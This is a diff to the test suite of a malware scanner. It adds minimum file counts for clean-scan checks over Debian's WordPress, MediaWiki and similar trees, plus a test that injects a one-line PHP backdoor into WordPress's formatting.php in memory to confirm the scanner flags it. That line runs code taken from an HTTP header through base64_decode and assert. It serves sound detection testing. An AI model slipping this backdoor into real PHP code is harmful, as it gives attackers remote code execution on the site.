@@ -236,27 +236,41 @@ describe('scan: the tree walk', () => {
  * They are read unpacked (`dpkg-deb -x`) from MAMORI_SCAN_TREES/<package>, or
  * /var/cache/mamori-ci/<package>, or installed under /usr/share.
  */
-const APPS: [string, string][] = [
-  ['wordpress', 'usr/share/wordpress'],
-  ['phpmyadmin', 'usr/share/phpmyadmin'],
-  ['mediawiki', 'usr/share/mediawiki'],
-  ['roundcube-core', 'usr/share/roundcube'],
-  ['dokuwiki', 'usr/share/dokuwiki'],
+const APPS: [string, string, number][] = [
+  ['wordpress', 'usr/share/wordpress', 2000],
+  ['phpmyadmin', 'usr/share/phpmyadmin', 2000],
+  ['mediawiki', 'usr/share/mediawiki', 20000],
+  ['roundcube-core', 'usr/share/roundcube', 1000],
+  ['dokuwiki', 'usr/share/dokuwiki', 2500],
+  ['php-laravel-framework', 'usr/share/php/Illuminate', 150],
 ];
 function appTree(pkg: string, sub: string): string | undefined {
   const bases = [process.env['MAMORI_SCAN_TREES'], '/var/cache/mamori-ci'].filter((x): x is string => !!x);
   for (const b of bases) if (existsSync(join(b, pkg, sub))) return join(b, pkg, sub);
   return existsSync(join('/', sub)) && readdirSync(join('/', sub)).length > 3 ? join('/', sub) : undefined;
 }
-for (const [pkg, sub] of APPS) {
+for (const [pkg, sub, least] of APPS) {
   const tree = appTree(pkg, sub);
   if (!tree) console.log(`# skipping the ${pkg} false-positive scan: Debian's ${pkg} is not unpacked under MAMORI_SCAN_TREES, /var/cache/mamori-ci or /${sub}`);
   describe(`scan: no malicious verdict on Debian's ${pkg}`, { skip: tree ? false : `Debian's ${pkg} is not there` }, () => {
     it('scans the whole tree', () => {
       const { files } = scanner.walk([tree!]);
-      assert.ok(files.length > 500, `${files.length} files`);
+      assert.ok(files.length >= least, `${files.length} files`);
       const bad = files.map((f) => scanner.scanFile(f)).filter((r) => r.verdict === 'malicious');
       assert.deepEqual(bad.map((r) => `${r.path}: ${r.findings.map((f) => f.description).join('; ')}`), []);
     });
+    if (pkg === 'wordpress') {
+      it('finds one line injected into the middle of wp-includes/formatting.php, and the line', () => {
+        const original = readFileSync(join(tree!, 'wp-includes', 'formatting.php'), 'utf8');
+        const lines = original.split('\n');
+        const at = lines.findIndex((l, i) => i > lines.length / 2 && /^function /.test(l));
+        assert.ok(at > 0);
+        const injected = [...lines.slice(0, at), "if (!empty($_SERVER['HTTP_X_K'])) { $k = $_SERVER['HTTP_X_K']; @assert(base64_decode($k)); }", ...lines.slice(at)].join('\n');
+        assert.equal(scanner.scanBuffer(Buffer.from(original), join(tree!, 'wp-includes', 'formatting.php')).verdict, 'clean');
+        const r = scanner.scanBuffer(Buffer.from(injected), join(tree!, 'wp-includes', 'formatting.php'));
+        assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+        assert.ok(r.findings.some((f) => f.line === at + 1), JSON.stringify(r.findings));
+      });
+    }
   });
 }
